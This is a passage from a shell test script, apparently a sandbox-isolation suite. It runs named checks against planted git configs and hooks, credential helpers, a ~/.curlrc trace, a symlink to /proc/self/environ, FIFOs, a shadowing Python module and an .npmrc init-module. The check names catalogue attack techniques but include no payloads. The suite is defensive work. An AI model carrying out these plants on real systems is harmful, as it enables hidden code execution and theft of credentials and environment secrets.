  run_check "contexts on $be: SysV IPC keys are a context's own (shm squat)" with_backend "$be" chk_sysv_ipc
  run_check "contexts on $be: planted ~/.gitconfig (fsmonitor, safe.directory=*) vs git status" with_backend "$be" chk_gitconfig
  run_check "contexts on $be: planted pre-push hook vs git commit + push" with_backend "$be" chk_hook
  run_check "contexts on $be: fsmonitor appended to a --shared repo's .git/config" with_backend "$be" chk_repo_config
  run_check "contexts on $be: ext:: rewrite, credential helper, sshCommand in the repo's config" with_backend "$be" chk_repo_spellings
  run_check "contexts on $be: planted ~/.curlrc trace-ascii vs curl" with_backend "$be" chk_curlrc
  run_check "contexts on $be: pre-created 0666 credentials file" with_backend "$be" chk_precreated
  run_check "contexts on $be: symlink to /proc/self/environ copied out" with_backend "$be" chk_symlink
  run_check "contexts on $be: FIFO where the platform reads" with_backend "$be" chk_fifo
  run_check "contexts on $be: planted base64.py vs python3 -c with cwd in the workspace" with_backend "$be" chk_python
  run_check "contexts on $be: a submodule's filter driver vs git status (nested git)" with_backend "$be" chk_submodule
  run_check "contexts on $be: a local remote's post-receive hook vs git push" with_backend "$be" chk_local_remote
  run_check "contexts on $be: a .git file naming the context's private repository" with_backend "$be" chk_gitdir
  run_check "contexts on $be: symlinked COMMIT_EDITMSG into the context's home; ~/.gitconfig include" with_backend "$be" chk_gitlinks
  run_check "contexts on $be: a FIFO as include.path vs the wrapper" with_backend "$be" chk_fifo_include
  run_check "contexts on $be: the session exec client SIGKILLed: its command ends" with_backend "$be" chk_client_killed
  run_check "contexts on $be: a FIFO at .git/config, .git/HEAD, a .gitignore vs git status" with_backend "$be" chk_git_fifo
  run_check "contexts on $be: a FIFO vs session files read/write" with_backend "$be" chk_files_fifo
  run_check "contexts on $be: a project's .npmrc init-module and cache vs npm" with_backend "$be" chk_npm
  git_zone_checks "$be"
done
for be in $backends; do S session delete "ac-$be-$$" >/dev/null 2>&1; done
finish_checks
